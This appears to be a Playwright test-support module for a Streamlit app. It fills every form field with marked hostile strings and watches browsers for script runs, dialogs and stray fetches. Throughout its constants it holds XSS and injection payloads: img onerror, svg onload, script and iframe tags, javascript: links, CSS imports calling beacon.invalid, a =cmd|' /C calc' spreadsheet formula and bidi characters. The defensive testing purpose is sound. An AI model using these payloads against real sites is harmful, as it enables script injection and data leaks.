"""Text that would act if any screen let it, a pen that writes it into every field, and a watch over what browsers do
that nobody asked for. Marks in the texts: each begins and ends with its number, fetches /beacon/… here or from
beacon.invalid, and leaves `window.hit` behind if a script of it runs."""

import re
import sqlite3
from collections.abc import Iterator
from contextlib import closing
from dataclasses import dataclass
from functools import cached_property
from urllib.parse import unquote, urlsplit

from playwright.sync_api import BrowserContext, Dialog, ElementHandle, Error, Locator, Page, Request
from sqlalchemy import make_url

from coordination.texts import TURNS_ROUND
from tests.browser.conftest import Server

ELSEWHERE = "beacon.invalid"
MARKDOWN = ("![x](/beacon/§/markdown) ![x](http://beacon.invalid/§/markdown) "
            "[![x](/beacon/§/linked)](javascript:hit=§) <http://beacon.invalid/§> "
            "[a](data:text/html,<script>alert(§)</script>) `code` **bold** ~~gone~~")
STREAMLIT = ":material/home: :streamlit: :red[red] :blue-badge[badge] :smile: :rainbow[x] [[wiki]] {{7*7}} ${7*7} %s"
FORMULA = (r"$\href{javascript:hit=§}{x}$ $\includegraphics{http://beacon.invalid/§/tex}$ "
           r"$$\htmlStyle{background:url(/beacon/§/tex)}{x^2}$$")
HTML = ('"><img src=/beacon/§/img onerror="hit=§;alert(§)"><script src=http://beacon.invalid/§/js></script>'
        "<script>hit=§</script><svg onload=hit=§><image href=/beacon/§/svg /></svg>"
        "<style>@import url(/beacon/§/css);*{background:url(/beacon/§/style)}</style>"
        '<iframe src="/beacon/§/frame" srcdoc="<script>parent.hit=§</script>"></iframe>'
        "<link rel=stylesheet href=//beacon.invalid/§/css><meta http-equiv=refresh content='0;url=/beacon/§/meta'>"
        "<video poster=/beacon/§/poster src=//beacon.invalid/§/video autoplay></video><object data=/beacon/§/object>"
        "</object><base href=//beacon.invalid/><form action=//beacon.invalid/§><input autofocus onfocus=hit=§></form>"
        "</textarea></title></style></script><img srcset=/beacon/§/srcset>")
PLOTLY = ('<a href="javascript:hit=§">plotly</a><a href="http://beacon.invalid/§" target="_blank">plotly</a>'
          '<span style="background:url(/beacon/§/plotly)">span</span><b>b</b><br>%{x}<extra></extra>')
SHEET = "=HYPERLINK(\"http://beacon.invalid/§\") =cmd|' /C calc'!A0 @SUM(1) +1 -1"
READING_ORDER = "\u202eturned\u202c \u200fright to left\u200e \u2067apart\u2069 \u200b\u0301 \U0001f469\u200d\U0001f9b0"
LONG_WORD = "W" * 300
# For a text area, for one line of 200 characters, for one of 100: the same in less and less room.
LONG = "\n\n".join([MARKDOWN, f"# {STREAMLIT}", FORMULA, f"- {SHEET}", f"> {READING_ORDER}", LONG_WORD,
                    f"x {PLOTLY}", HTML, "\t```\n![x](/beacon/§/fence)"])
LINE = ("=1 ![x](/beacon/§/md)<img src=/beacon/§ onerror=hit=§><svg onload=hit=§>[a](javascript:hit=§)$x^2$:red[r]"
        ":material/home:`c`\u202e\u200f")
SHORT = "![](/beacon/§)<img src=/beacon/§ onerror=hit=§>$x$"
ROOMS = (LONG, LINE, SHORT)
NOT_A_NUMBER = "![](/beacon/date)<img src=/beacon/date onerror=alert(document.domain)>"
# An address of evidence, which a person may choose to follow, with nothing that an address may not have.
LINK = "http://beacon.invalid/evidence/[[§:\"onfocus=\"hit=§\"autofocus/![x](/beacon/§)<img/src=/beacon/§>'$x$:§]]"
FILE_NAME = "[[§:<img src=beacon-§ onerror=hit=§>![x](beacon-§)$x$:red[r]:§]].csv"
# The oddest address that is one.
EMAIL = "!#$x$*b*_c_`d`/beacon/{§}|~@parley.example"

LEAST_EXCERPT = 60
BEGINS = re.compile(r"\[\[(\d+):")
LEFT_OUT = dict.fromkeys(map(ord, TURNS_ROUND))

FIELDS = ("textarea, input:not([type]), input[type=text], input[type=search], input[type=email], input[type=url], "
          "input[type=tel], input[type=password], input[type=number], [contenteditable=true], [role=textbox], "
          "[role=spinbutton]")
LABEL = """each => (each.ariaLabel || [...(each.labels ?? [])].map(label => label.innerText).join(' ')
  || each.placeholder || each.name || '').replace(/\\s+/g, ' ').trim()"""
NEW = "each => each.checkVisibility() && !each.disabled && !each.readOnly && !each.written"
BESIDE = "each => Boolean(each.closest('[data-testid=stSidebar]'))"
# Without what a comparison of two versions took away, which stands amid what stayed, and without the links that stand
# between the lines of an agenda.
SEEN = """() => { const body = document.body.cloneNode(true);
  body.querySelectorAll('del, a[href*="&item="]').forEach(each => each.remove()); return body.textContent; }"""
# What no request tells: a script that ran, a handler, address or style that stands ready to.
STANDS_READY = """link => {
  const found = window.hit === undefined ? [] : [`a script ran: ${window.hit}`];
  for (const each of document.querySelectorAll('*')) for (const {name, value} of each.attributes) {
    const place = `<${each.localName} ${name}="${value.slice(0, 150)}">`;
    if (name.startsWith('on')) found.push(place);
    if (/^(src|srcset|style|data|poster|background|srcdoc|action|formaction)$/.test(name) && value.includes('beacon'))
      found.push(place);
    if (!/^(href|xlink:href)$/.test(name) || (value.startsWith(link) && /noopener/.test(each.rel))) continue;
    const to = URL.parse(value, location.href);
    if (!to || !/^https?:$/.test(to.protocol) || (to.host + to.pathname).includes('beacon')) found.push(place);
  }
  for (const style of document.querySelectorAll('style')) if (style.textContent.includes('beacon'))
    found.push('a <style>');
  if (document.body.innerText.includes('this page has failed')) found.push('the page failed');
  return found.concat([...document.querySelectorAll('iframe, object, embed')].map(each => each.outerHTML));
}"""


@dataclass(frozen=True)
class Written:
    """One hostile text, and the field that it was typed into."""

    page: str
    label: str
    text: str

    @cached_property
    def bare(self) -> str:
        """The text as `bare` has it."""
        return bare(self.text)


class Pen:
    """Types hostile texts, each with a number of its own. `fields` has (page, label) of all that were typed into."""

    def __init__(self) -> None:
        self.written: dict[int, Written] = {}
        self.fields: set[tuple[str, str]] = set()

    def text(self, pattern: str, page: str, label: str, *, marked: bool = True) -> str:
        """A hostile text of that pattern, for a field of a page."""
        number = len(self.written) + 100
        text = (f"[[§:{pattern}:§]]" if marked else pattern).replace("§", str(number))
        self.written[number] = Written(page, label, text)
        return text

    def fill(self, page: Page, name: str, *, beside: bool = True) -> None:
        """Type into every field that shows on a page, until no new one appears; `beside`: in the sidebar too."""
        for _ in range(10):
            steady(page)
            new = [each for each in page.locator(FIELDS).element_handles()
                   if each.evaluate(NEW) and (beside or not each.evaluate(BESIDE))]
            if not new:
                return
            for each in new:
                each.evaluate("each => { each.written = true }")
                try:
                    self._type(page, each, name)
                except Error as gone:  # what was typed before drew this one anew: the next round finds it
                    if "not attached" not in str(gone):
                        raise
        raise AssertionError(f"{name} shows new fields without end.")

    def _type(self, page: Page, field: ElementHandle, name: str) -> None:
        label = str(field.evaluate(LABEL))
        self.fields.add((name, label))
        role, kind = field.get_attribute("role"), field.evaluate("each => each.localName + (each.type ?? '')")
        if role in {"spinbutton", "textbox"} or kind == "inputnumber":
            field.focus()
            page.keyboard.insert_text(NOT_A_NUMBER)
            page.keyboard.press("Escape")
        elif role == "combobox":
            field.fill(self.text(SHORT, name, label))
            page.keyboard.press("Escape")
        else:
            self._fill(field, name, label, ROOMS if kind.startswith("textarea") else ROOMS[1:])
        field.evaluate("each => each.blur()")

    def _fill(self, field: ElementHandle, name: str, label: str, rooms: tuple[str, ...]) -> None:
        for pattern in rooms:
            text = self.text(pattern, name, label)
            field.fill(text)
            if bare(field.input_value()) == bare(text):
                return
        raise AssertionError(f"{name}: nothing could be typed into “{label}”")

    def garbled(self, seen: str) -> list[str]:
        """Where `seen`, the text of a page, begins one of the texts and does not show it as it was written, whole or up
        to “...”."""
        seen = bare(seen)
        begun = [(self.written[int(mark[1])], mark.start()) for mark in BEGINS.finditer(seen)
                 if int(mark[1]) in self.written]
        return [f"“{written.label}” of {written.page} is shown as {seen[at:at + 200]}" for written, at in begun
                if not _whole_or_cut(written.bare, seen, at)]

    def shown(self, seen: str) -> set[str]:
        """The labels of the fields whose text shows as it was written."""
        seen = bare(seen)
        return {written.label for written in self.written.values() if written.bare in seen}


def _whole_or_cut(text: str, seen: str, at: int) -> bool:
    """Whether `seen` has the text where its mark is at `at`: all of it, or its beginning and “...”."""
    rest, shown = text[text.index("[["):], seen[at:]
    cut = next((place for place, (a, b) in enumerate(zip(rest, shown, strict=False)) if a != b), len(rest))
    return cut == len(rest) or (cut > LEAST_EXCERPT and shown.startswith("...", cut))


def bare(text: str) -> str:
    """Without white space, which screens fold, and without what may turn the reading order, which lines leave out."""
    return "".join(text.translate(LEFT_OUT).split())


class Watch:
    """What the browsers of some visitors did that no person asked for: `astray`. `seen` counts all requests."""

    def __init__(self, server: Server) -> None:
        self.host = urlsplit(server.url).netloc
        self.seen = 0
        self.astray: list[str] = []

    def began_anew(self) -> list[str]:
        """A list that is empty now, for what is astray from now on."""
        self.astray = []
        return self.astray

    def over(self, context: BrowserContext) -> None:
        """Watch a context and the pages that it has; another one that opens is astray itself."""
        context.on("request", self._request)
        context.on("dialog", self._dialog)
        context.on("page", lambda page: self.astray.append(f"a window was opened: {page.url}"))
        for page in context.pages:
            page.on("download", lambda download: self.astray.append(f"a file was saved: {download.url}"))
            page.on("websocket", lambda socket: self._fetched(socket.url))

    def _request(self, request: Request) -> None:
        self._fetched(request.url)

    def _fetched(self, url: str) -> None:
        self.seen += 1
        parts = urlsplit(url)
        if parts.scheme not in {"data", "blob"} and (parts.netloc != self.host or "beacon" in unquote(parts.path)):
            self.astray.append(f"fetched {url}")

    def _dialog(self, dialog: Dialog) -> None:
        self.astray.append(f"a dialog said {dialog.message}")
        dialog.dismiss()

    def look(self, page: Page, path: str) -> None:
        """Look also for what no request tells, and whether the page is still the one at `path`."""
        self.astray += [f"{path}: {found}" for found in page.evaluate(STANDS_READY, f"http://{ELSEWHERE}/evidence/")]
        if urlsplit(page.url).path != path:
            self.astray.append(f"{path} went to {page.url}")


def steady(page: Page) -> None:
    """Wait until the page stays as it is: Streamlit draws a script's output after it has said that the script ended."""
    before = ""
    for _ in range(100):
        now = str(page.evaluate("() => `${document.querySelector('[data-testid=stApp]')?.dataset.testScriptState} "
                                "${document.querySelectorAll('*').length}`"))
        if now == before and not now.startswith("running"):
            return
        before = now
        page.wait_for_timeout(100)
    raise AssertionError(f"{page.url} does not come to rest.")


def unfold(page: Page) -> Iterator[None]:
    """Open everything that is folded, and one tab after the other; the page is to be looked at after each."""
    page.evaluate("document.querySelectorAll('.parley details').forEach(each => { each.open = true })")
    for folded in page.locator("[data-testid=stExpander] details:not([open]) > summary").element_handles():
        folded.click()
    steady(page)
    tabs = page.locator("[data-testid=stMain] [role=tab]")
    if not tabs.count():
        yield
    for number in range(tabs.count()):
        if tabs.nth(number).is_visible():
            tabs.nth(number).click()
            yield


def hover(page: Page) -> None:
    """Move over every figure and every table of figures, so that they say what they say on hovering."""
    for figure in page.locator(".js-plotly-plot, [data-testid=stDataFrame]").all():
        figure.scroll_into_view_if_needed()
        box = figure.bounding_box()
        assert box is not None
        for part in range(1, 10):
            page.mouse.move(box["x"] + box["width"] * part / 10, box["y"] + box["height"] * part / 10)


def everything(server: Server) -> set[str]:
    """Every row of the database, as an SQL statement."""
    with closing(sqlite3.connect(f"file:{make_url(server.database_url).database}?mode=ro", uri=True)) as database:
        return set(database.iterdump())


def choose(box: Locator, words: str) -> None:
    """Choose the first option with those words in it. With keys: scrolling shuts the list. A list of several stays open
    for the next choice, and hides the rest of the page meanwhile."""
    box.fill(words)
    box.press("ArrowDown")
    box.press("Enter")
    box.press("Tab")


def press_all(page: Page) -> None:
    """Press the button of every form that shows, as long as there is one that was not pressed."""
    pressed: set[str] = set()
    while True:
        buttons = page.locator("[data-testid=stFormSubmitButton] button:visible").all()
        new = [each for each in buttons if each.inner_text() not in pressed]
        if not new:
            return
        pressed.add(new[0].inner_text())
        new[0].click()
        steady(page)
